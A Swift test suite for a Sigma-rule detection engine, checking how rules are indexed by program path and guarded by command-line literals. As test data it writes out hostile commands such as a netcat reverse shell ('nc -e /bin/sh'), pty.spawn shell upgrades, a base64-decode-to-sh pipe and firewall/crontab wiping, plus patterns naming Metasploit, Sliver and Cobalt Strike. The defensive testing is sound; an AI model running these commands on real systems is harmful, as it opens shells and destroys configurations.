import ExecEvents
import RuleEngine
import Testing

/// The rule index files Sigma rules under the program names their `Image` tests require; these
/// tests show that no match is lost by it and that other rules are left out.
@Suite struct SigmaIndexTests {
    /// An event whose program name (procName) differs from both paths' last components, so only
    /// the paths can make a rule a candidate.
    private func event(invoked: String?, exe: String?, args: [String] = ["prog"]) -> ExecEvent {
        var e = processEvent(image: exe, invoked: invoked, commandLine: args)
        e.procName = "unrelated"
        return e
    }

    @Test func imageIsLookedUpByTheInvokedAndTheResolvedPath() throws {
        let byInvoked = try sigmaRule(id: "invoked", "    sel:\n        Image|endswith: '/nc'\n    condition: sel")
        let byResolved = try sigmaRule(
            id: "resolved",
            "    sel:\n        Image: '/usr/bin/nc.openbsd'\n    condition: sel"
        )
        var e = engine([byInvoked, byResolved])
        // Debian's alternatives: invoked as /usr/bin/nc, resolved to /usr/bin/nc.openbsd; each rule
        // would be lost by an index that looked at one of the two paths only.
        let netcat = run(&e, event(invoked: "/usr/bin/nc", exe: "/usr/bin/nc.openbsd"))
        #expect(netcat.ids == ["invoked", "resolved"])
        let onlyInvoked = run(&e, event(invoked: "/tmp/x/nc", exe: "/usr/bin/busybox"))
        #expect(onlyInvoked == (["invoked"], 1))
        let onlyResolved = run(&e, event(invoked: nil, exe: "/usr/bin/nc.openbsd"))
        #expect(onlyResolved.ids == ["resolved"])
        // Neither path ends in a program a rule names: no filter is evaluated.
        #expect(run(&e, event(invoked: "/bin/bash", exe: "/usr/bin/bash")) == ([], 0))
        #expect(run(&e, event(invoked: nil, exe: nil)) == ([], 0))
        #expect(!e.mayMatch(event(invoked: "/bin/bash", exe: "/usr/bin/bash")))
        #expect(e.mayMatch(event(invoked: nil, exe: "/usr/bin/NC.openbsd")))
    }

    @Test func aRuleNamingBothPathsIsEvaluatedOnce() throws {
        let both = try sigmaRule(
            id: "both",
            "    sel:\n        Image|endswith:\n            - '/nc'\n            - '/nc.openbsd'\n    condition: sel"
        )
        var e = engine([both])
        #expect(run(&e, event(invoked: "/usr/bin/nc", exe: "/usr/bin/nc.openbsd")) == (["both"], 1))
        #expect(e.incidents.first?.count == 1)
    }

    @Test func caseIsIgnoredUnlessCasedAndTheFilterStillDecides() throws {
        let folded = try sigmaRule(id: "folded", "    sel:\n        Image|endswith: '/NC'\n    condition: sel")
        let cased = try sigmaRule(id: "cased", "    sel:\n        Image|endswith|cased: '/NC'\n    condition: sel")
        var e = engine([folded, cased])
        #expect(run(&e, event(invoked: "/usr/bin/nc", exe: nil)) == (["folded"], 2))
        #expect(run(&e, event(invoked: "/usr/bin/NC", exe: nil)).ids == ["folded", "cased"])
        #expect(run(&e, event(invoked: "/usr/bin/Nc", exe: nil)) == (["folded"], 2))
    }

    @Test func wildcardsInTheLastComponentLeaveTheRuleUnindexed() throws {
        let question = try sigmaRule(id: "question", "    sel:\n        Image|endswith: '/n?'\n    condition: sel")
        let star = try sigmaRule(id: "star", "    sel:\n        Image: '/usr/bin/nc*'\n    condition: sel")
        let noSlash = try sigmaRule(id: "noslash", "    sel:\n        Image|endswith: 'nc'\n    condition: sel")
        let escaped = try sigmaRule(id: "escaped", "    sel:\n        Image|endswith: '/n\\*'\n    condition: sel")
        let glob = try sigmaRule(id: "glob", "    sel:\n        Image: '/*/nc'\n    condition: sel")
        var e = engine([question, star, noSlash, escaped, glob])
        // Not filed by program name, but guarded by their longest literal (`/n`, `/usr/bin/nc`, `nc`).
        #expect(run(&e, event(invoked: "/usr/bin/nx", exe: nil)) == (["question"], 1))
        #expect(run(&e, event(invoked: "/usr/bin/ncat", exe: nil)) == (["star"], 3))
        #expect(run(&e, event(invoked: "/usr/bin/rsync", exe: nil)) == (["noslash"], 1))
        // `\*` is a literal star: that rule is indexed under `n*` and found by it.
        #expect(run(&e, event(invoked: "/usr/bin/n*", exe: nil)) == (["question", "escaped"], 2))
        #expect(run(&e, event(invoked: "/usr/nc", exe: nil)).ids == ["question", "noslash", "glob"])
    }

    @Test func negatedImageTestsRequireNothing() throws {
        let notNetcat = try sigmaRule(id: "not", "    sel:\n        Image|endswith: '/nc'\n    condition: not sel")
        let neq = try sigmaRule(id: "neq", "    sel:\n        Image|endswith|neq: '/nc'\n    condition: sel")
        var e = engine([notNetcat, neq])
        #expect(run(&e, event(invoked: "/bin/bash", exe: "/usr/bin/bash")).ids == ["not", "neq"])
        #expect(run(&e, event(invoked: "/usr/bin/nc", exe: "/usr/bin/nc")) == ([], 2))
    }

    @Test func oneOfIsIndexedOnlyWhenEveryAlternativeNamesAProgram() throws {
        let mixed = try sigmaRule(
            id: "mixed",
            """
                sel_image:
                    Image|endswith: '/nc'
                sel_args:
                    CommandLine|contains: ' -e /bin/sh'
                condition: 1 of sel_*
            """
        )
        let programs = try sigmaRule(
            id: "programs",
            """
                sel_nc:
                    Image|endswith: '/nc'
                sel_socat:
                    Image|endswith: '/socat'
                condition: 1 of sel_*
            """
        )
        let conjunction = try sigmaRule(
            id: "and",
            """
                sel_image:
                    Image|endswith: '/socat'
                sel_args:
                    CommandLine|contains: 'exec:'
                condition: all of sel_*
            """
        )
        var e = engine([mixed, programs, conjunction])
        // The CommandLine alternative matches any program: `mixed` must be evaluated for bash.
        #expect(run(&e, event(invoked: "/bin/bash", exe: nil, args: ["bash", "-e /bin/sh"])) == (["mixed"], 1))
        // `mixed` holds neither its Image text (`/nc`) nor its CommandLine text: its guard skips it.
        #expect(
            run(&e, event(invoked: "/usr/bin/socat", exe: nil, args: ["socat", "exec:sh"])) == (["programs", "and"], 2)
        )
        #expect(run(&e, event(invoked: "/usr/bin/nc", exe: nil)) == (["mixed", "programs"], 2))
    }
}

/// Rules without an `Image` requirement are filed by the parent's program their `ParentImage`
/// tests require, or guarded by the texts their `CommandLine` tests require; neither loses a match.
@Suite struct SigmaParentAndLiteralIndexTests {
    private func event(image: String = "/usr/bin/bash", parent: String? = nil, args: [String] = ["prog"]) -> ExecEvent {
        var e = processEvent(image: image, invoked: image, commandLine: args, parentImage: parent)
        e.procName = "unrelated"
        return e
    }

    @Test func parentImageFilesRulesWithoutAnImageRequirement() throws {
        let sshd = try sigmaRule(id: "sshd", "    sel:\n        ParentImage|endswith: '/sshd'\n    condition: sel")
        let notSshd = try sigmaRule(
            id: "notsshd",
            "    sel:\n        ParentImage|endswith: '/sshd'\n    condition: not sel"
        )
        let both = try sigmaRule(
            id: "both",
            "    sel:\n        ParentImage|endswith: '/sshd'\n        Image|endswith: '/bash'\n    condition: sel"
        )
        var e = engine([sshd, notSshd, both])
        #expect(run(&e, event(parent: "/usr/sbin/sshd")) == (["sshd", "both"], 3))
        // Another parent: the negated rule, filed under "any", is evaluated and matches; the rule
        // filed under the parent's program is not evaluated.
        #expect(run(&e, event(parent: "/usr/sbin/cron")) == (["notsshd"], 2))
        #expect(run(&e, event(parent: nil)) == (["notsshd"], 2))
        // Case is ignored as the test ignores it; `both` is filed under its Image, bash.
        #expect(run(&e, event(image: "/usr/bin/ls", parent: "/usr/sbin/SSHD")) == (["sshd"], 2))
        // mayMatch is asked with a probe that has no parent facts (the audit sources, replay): a
        // rule filed under its parent's program always may match; process() then looks.
        let alone = engine([sshd])
        #expect(alone.mayMatch(event(parent: nil)))
        #expect(alone.mayMatch(event(parent: "/usr/sbin/sshd")))
        #expect(!engine([both]).mayMatch(event(image: "/usr/bin/ls", parent: nil)))
    }

    @Test func commandLineLiteralsGuardRules() throws {
        let oneOf = try sigmaRule(
            id: "oneof",
            """
                sel_a:
                    CommandLine|contains: 'foo'
                sel_b:
                    CommandLine|endswith: 'bar'
                condition: 1 of sel_*
            """
        )
        let mixed = try sigmaRule(
            id: "mixed",
            """
                sel_a:
                    CommandLine|contains: 'foo'
                sel_b:
                    User: 'root'
                condition: 1 of sel_*
            """
        )
        let negated = try sigmaRule(
            id: "negated",
            "    sel:\n        CommandLine|contains: 'foo'\n    condition: not sel"
        )
        let cased = try sigmaRule(
            id: "cased",
            "    sel:\n        CommandLine|contains|cased: 'Foo'\n    condition: sel"
        )
        let wildcard = try sigmaRule(
            id: "wildcard",
            "    sel:\n        CommandLine: '*ev?l*cmdline*'\n    condition: sel"
        )
        let windash = try sigmaRule(
            id: "windash",
            "    sel:\n        CommandLine|windash|contains: ' -fx '\n    condition: sel"
        )
        var e = engine([oneOf, mixed, negated, cased, wildcard, windash])
        // No guard's text: only the rules without a guard (a `1 of` with a User test, a `not`) run.
        #expect(run(&e, event(args: ["x", "y"])) == (["negated"], 2))
        // A text of either alternative of `1 of`, in any case.
        #expect(run(&e, event(args: ["x", "BAR"])) == (["oneof", "negated"], 3))
        // A guard ignores case; the cased test itself decides.
        #expect(run(&e, event(args: ["x", "FOO"])) == (["oneof", "mixed"], 4))
        #expect(run(&e, event(args: ["x", "Foo"])) == (["oneof", "mixed", "cased"], 4))
        // The longest literal between wildcards (`cmdline`), and between windash dashes (`fx `).
        #expect(run(&e, event(args: ["x", "EVAL", "--CMDLINE"])) == (["negated", "wildcard"], 3))
        #expect(run(&e, event(args: ["x", "/fx", "y"])) == (["negated", "windash"], 3))
        #expect(run(&e, event(args: ["x", "evil", "fx"])) == (["negated"], 2))
    }

    @Test func imageLiteralsGuardRulesMixingImageAndCommandLine() throws {
        // As SigmaHQ's hacktool and local-account rules: `1 of` Image names, Image `contains`
        // texts and CommandLine texts.
        let mixed = try sigmaRule(
            id: "mixed",
            """
                sel_names:
                    Image|endswith:
                        - '/msfconsole'
                        - '/sliver-client'
                sel_contains:
                    Image|contains: '/cobaltstrike'
                sel_cli:
                    CommandLine|contains: 'x:0:'
                condition: 1 of sel_*
            """
        )
        let negatedImage = try sigmaRule(
            id: "notimage",
            "    sel:\n        Image|contains: '/tmp/'\n    condition: not sel"
        )
        var e = engine([mixed, negatedImage])
        #expect(run(&e, event(image: "/usr/bin/true")) == (["notimage"], 1))
        #expect(run(&e, event(image: "/opt/CobaltStrike/bin/agent")) == (["mixed", "notimage"], 2))
        #expect(run(&e, event(image: "/usr/bin/SLIVER-client")) == (["mixed", "notimage"], 2))
        #expect(
            run(&e, event(image: "/usr/bin/grep", args: ["grep", "X:0:", "/etc/passwd"])) == (["mixed", "notimage"], 2)
        )
        // Either path may hold the text: the one as invoked here, the resolved one in the next.
        var invoked = event(image: "/usr/bin/msfconsole")
        invoked.exePath = "/usr/bin/ruby3.1"
        #expect(run(&e, invoked) == (["mixed", "notimage"], 2))
        var resolved = event(image: "/usr/bin/ruby")
        resolved.exePath = "/opt/metasploit/msfconsole"
        #expect(run(&e, resolved) == (["mixed", "notimage"], 2))
        // A text the guard holds but the test does not: the filter decides.
        #expect(run(&e, event(image: "/usr/bin/msfconsole-helper")) == (["notimage"], 2))
        #expect(run(&e, event(image: "/tmp/x")) == ([], 1))
    }

    @Test func regexAndBase64OffsetLiteralsGuardToo() throws {
        let regex = try sigmaRule(id: "re", "    sel:\n        CommandLine|re: '-(W|R) '\n    condition: sel")
        let encoded = try sigmaRule(
            id: "b64",
            "    sel:\n        CommandLine|base64offset|contains: 'evil command'\n    condition: sel"
        )
        var e = engine([regex, encoded])
        #expect(run(&e, event(args: ["x", "-R", "1"])) == (["re"], 1))
        #expect(run(&e, event(args: ["x", "-r", "1"])) == ([], 1))  // the guard ignores case, the regex not
        #expect(run(&e, event(args: ["x", "-x", "1"])) == ([], 0))
        // "evil command" at each offset of a base64 text: every variant is in the guard.
        for text in ["ZXZpbCBjb21tYW5k", "IGV2aWwgY29tbWFuZ", "ICBldmlsIGNvbW1hbm"] {
            #expect(run(&e, event(args: ["echo", "x" + text + "y"])) == (["b64"], 1), "\(text)")
        }
        #expect(run(&e, event(args: ["echo", "ZXZpbCBjb21tYW"])) == ([], 0))
    }
}

/// `contains` tests on a long argv: the first two of an event search it, the later ones answer
/// from its byte pairs when a pair is missing; a needle that is there is still found, in any case
/// and wherever it is.
@Suite struct LongCommandLineTests {
    private func matches(_ detection: String, _ args: [String]) throws -> Bool {
        let rule = try sigmaRule(detection)
        return rule.filter.matches(processEvent(image: "/usr/bin/echo", commandLine: args))
    }

    @Test func needlesInLongCommandLinesAreFoundInAnyCase() throws {
        let filler = String(repeating: "x", count: 40_000)
        let contains = "    sel:\n        CommandLine|contains: 'Base64 -D'\n    condition: sel"
        #expect(try matches(contains, ["echo", filler, "BASE64 -d"]))
        #expect(try matches(contains, ["echo", "base64 -d", filler]))
        #expect(try !matches(contains, ["echo", filler, "base64 -x"]))
        // Every pair is present but not the needle: the search decides.
        #expect(try !matches(contains, ["echo", filler, "base64 -", "-d"]))
        let cased = "    sel:\n        CommandLine|contains|cased: 'Base64 -D'\n    condition: sel"
        #expect(try matches(cased, ["echo", filler, "Base64 -D"]))
        #expect(try !matches(cased, ["echo", filler, "base64 -d"]))
        let keyword = "    keywords:\n        - 'chmod +x'\n    condition: keywords"
        #expect(try matches(keyword, ["sh", "-c", filler + " ; CHMOD +X /tmp/a"]))
        #expect(try !matches(keyword, ["sh", "-c", filler + " ; chmod -x /tmp/a"]))
        let all =
            "    sel:\n        CommandLine|contains|all:\n            - ' -e '\n            - '/bin/sh'\n    condition: sel"
        #expect(try matches(all, ["nc", filler, "-e", "/bin/sh"]))
        #expect(try !matches(all, ["nc", filler, "-c", "/bin/sh"]))
    }

    @Test func testsAfterTheSecondAnswerAsTheFirstTwo() throws {
        let filler = String(repeating: "x", count: 40_000)
        // Tested left to right: `alpha` and `bravo` search the argv, `Charlie` and `DELTA` read
        // its pairs.
        let all =
            "    sel:\n        CommandLine|contains|all:\n            - 'alpha'\n            - 'bravo'\n"
            + "            - 'Charlie'\n            - 'DELTA'\n    condition: sel"
        #expect(try matches(all, ["echo", filler, "ALPHA", "Bravo", "charlie", "delta"]))
        #expect(try matches(all, ["echo", "DeLtA", "cHARLIE", filler, "bravo alpha"]))
        // `de` is in no case in it: the pairs decide.
        #expect(try !matches(all, ["echo", filler, "alpha", "bravo", "charlie", "dlta"]))
        // Every pair of `delta` is there, but not `delta`: the search decides.
        #expect(try !matches(all, ["echo", filler, "alpha", "bravo", "charlie", "del", "ta", "elt"]))
        #expect(try !matches(all, ["echo", filler, "alpha", "bravo", "charli", "delta"]))
    }

    /// The probe of an exec (its paths, no `args`) and its argv as a source reads it: each
    /// argument NUL-terminated.
    private func probe(_ whole: ExecEvent) -> (event: ExecEvent, area: [UInt8]) {
        var probe = ExecEvent(eventTime: whole.eventTime, hostName: whole.hostName, procName: whole.procName)
        probe.invokedPath = whole.invokedPath
        probe.exePath = whole.exePath
        return (probe, (whole.args ?? []).flatMap { $0 + [0] })
    }

    @Test func aProbeIsRefusedWhenNoGuardOfItsCandidatesHolds() throws {
        let shell = try sigmaRule(
            id: "shell",
            "    sel:\n        CommandLine|contains: ' -e /bin/sh'\n    condition: sel"
        )
        let pty = try sigmaRule(
            id: "pty",
            "    sel:\n        ParentImage|endswith: '/python3'\n        CommandLine|contains: 'pty.spawn'\n    condition: sel"
        )
        let tmp = try sigmaRule(id: "tmp", "    sel:\n        Image|startswith: '/tmp/'\n    condition: sel")
        var e = engine([shell, pty, tmp])
        let quiet = processEvent(image: "/usr/bin/true", commandLine: ["true"])
        #expect(e.mayMatch(probe(quiet).event), "every exec is a candidate of the unindexed rules")
        #expect(!e.mayMatch(probe(quiet).event, argumentArea: probe(quiet).area))
        #expect(run(&e, quiet) == ([], 0), "the whole event evaluates no filter either")
        // The guard's text spans arguments: NULs read as the spaces that join them.
        let reverse = processEvent(image: "/usr/bin/nc", commandLine: ["nc", "-e", "/bin/sh", "10.0.0.1"])
        #expect(e.mayMatch(probe(reverse).event, argumentArea: probe(reverse).area))
        #expect(run(&e, reverse).ids == ["shell"])
        // Without the last terminator (an argv cut short) the same.
        #expect(e.mayMatch(probe(reverse).event, argumentArea: Array("nc\0-e\0/bin/sh".utf8)))
        #expect(!e.mayMatch(probe(reverse).event, argumentArea: Array("nc\0-e\0/bin/s".utf8)))
        // A rule filed under its parent: the probe has no parent, its guard decides.
        let spawn = processEvent(
            image: "/bin/sh",
            commandLine: ["sh", "-c", "import pty;pty.spawn('/bin/sh')"],
            parentImage: "/usr/bin/python3"
        )
        #expect(e.mayMatch(probe(spawn).event, argumentArea: probe(spawn).area))
        #expect(run(&e, spawn).ids == ["pty"])
        // A guard on Image's paths holds in the probe's paths.
        let dropped = processEvent(image: "/tmp/x", commandLine: ["x"])
        #expect(e.mayMatch(probe(dropped).event, argumentArea: probe(dropped).area))
        // A rule without a guard admits every exec.
        let root = try sigmaRule(id: "root", "    sel:\n        User: root\n    condition: sel")
        let withRoot = engine([shell, root])
        #expect(withRoot.mayMatch(probe(quiet).event, argumentArea: probe(quiet).area))
    }

    @Test func aTermWithTooManyTextsLeavesTheGuardToAnother() throws {
        // A long list of package names (the longer texts) beside a short Image test: the list is
        // too long to be a guard, the Image test guards the rule.
        let packages = (0..<200).map { "            - 'package-\($0)@1.0.0'" }.joined(separator: "\n")
        let npm = try sigmaRule(
            id: "npm",
            "    sel:\n        Image|contains: '/node'\n        CommandLine|contains:\n\(packages)\n    condition: sel"
        )
        var e = engine([npm])
        let quiet = processEvent(image: "/usr/bin/true", commandLine: ["true"])
        #expect(!e.mayMatch(probe(quiet).event, argumentArea: probe(quiet).area))
        let install = processEvent(image: "/usr/bin/node", commandLine: ["npm", "install", "package-7@1.0.0"])
        #expect(e.mayMatch(probe(install).event, argumentArea: probe(install).area))
        #expect(run(&e, install).ids == ["npm"])
        // A hundred alternatives are still a guard.
        let hundred = (0..<100).map { "            - 'tool-\($0) '" }.joined(separator: "\n")
        let tools = try sigmaRule(
            id: "tools",
            "    sel:\n        CommandLine|contains:\n\(hundred)\n    condition: sel"
        )
        var t = engine([tools])
        #expect(!t.mayMatch(probe(quiet).event, argumentArea: probe(quiet).area))
        let tool = processEvent(image: "/usr/bin/env", commandLine: ["env", "tool-99", "-x"])
        #expect(t.mayMatch(probe(tool).event, argumentArea: probe(tool).area))
        #expect(run(&t, tool).ids == ["tools"])
    }

    @Test func aNonASCIIGuardIsNotDecidedOnInvalidUTF8() throws {
        // The joined command line shows invalid UTF-8 as U+FFFD, which a literal may name: raw
        // bytes with 0x80 and up cannot tell whether it is there.
        let replaced = try sigmaRule(
            id: "fffd",
            "    sel:\n        CommandLine|contains: \"x\\uFFFD\"\n    condition: sel"
        )
        var e = engine([replaced])
        let invalid = ExecEvent(
            eventTime: EventTime(millisecondsSinceEpoch: 1_700_000_000_000),
            hostName: "h",
            procName: "echo",
            args: [Array("echo".utf8), [UInt8(ascii: "x"), 0xFF]]
        )
        #expect(run(&e, invalid).ids == ["fffd"])
        #expect(e.mayMatch(probe(invalid).event, argumentArea: probe(invalid).area))
        let valid = processEvent(image: "/bin/echo", commandLine: ["echo", "xy"])
        #expect(!e.mayMatch(probe(valid).event, argumentArea: probe(valid).area))
    }

    /// Over the corpus, on commands its rules name and commands they do not: a probe refused
    /// means the whole event evaluates no filter.
    @Test func aRefusedProbeNeverLosesACorpusMatch() throws {
        let result = try SigmaCorpusTests.load()
        var e = engine(result.rules)
        let commands: [([String], String)] = [
            (["true"], "/usr/bin/true"),
            (["nc", "-e", "/bin/sh", "10.0.0.1", "4444"], "/usr/bin/nc.openbsd"),
            (["sh", "-c", "echo aGk= | base64 -d | sh"], "/usr/bin/dash"),
            (["chmod", "+x", "/tmp/payload"], "/usr/bin/chmod"),
            (["bash", "-i"], "/usr/bin/bash"),
            (["cc1", "-quiet", "-I", "/usr/include", "x.c"], "/usr/lib/gcc/x86_64-linux-gnu/12/cc1"),
            (["crontab", "-r"], "/usr/bin/crontab"),
            (["python3", "-c", "import pty;pty.spawn('/bin/sh')"], "/usr/bin/python3.11"),
            (["iptables", "-F"], "/usr/sbin/xtables-legacy-multi"),
            (["git", "status"], "/usr/bin/git"),
        ]
        var refused = 0
        for (k, (argv, exe)) in commands.enumerated() {
            var whole = processEvent(
                image: exe,
                invoked: "/usr/bin/" + argv[0],
                commandLine: argv,
                parentImage: "/usr/bin/bash"
            )
            whole.eventTime = EventTime(millisecondsSinceEpoch: 1_700_000_000_000 + Int64(k) * 1000)
            whole.procName = argv[0]
            let (event, area) = probe(whole)
            let admitted = e.mayMatch(event, argumentArea: area)
            let (ids, evaluated) = run(&e, whole)
            if !admitted {
                refused += 1
                #expect(ids.isEmpty && evaluated == 0, "\(argv) refused but evaluated \(evaluated): \(ids)")
            }
        }
        #expect(refused >= 3, "/bin/true, git and cc1 name nothing the corpus guards")
        #expect(!e.mayMatch(probe(processEvent(commandLine: ["true"])).event, argumentArea: Array("true\0".utf8)))
    }
}

/// Rule ids of the incidents an event creates or updates, and how many filters it evaluated.
private func run(_ e: inout DetectionEngine, _ event: ExecEvent) -> (ids: [String], evaluated: UInt64) {
    let before = e.counters.filterEvaluations
    let ids = e.process(event).map(\.incident.ruleId)
    return (ids, e.counters.filterEvaluations - before)
}
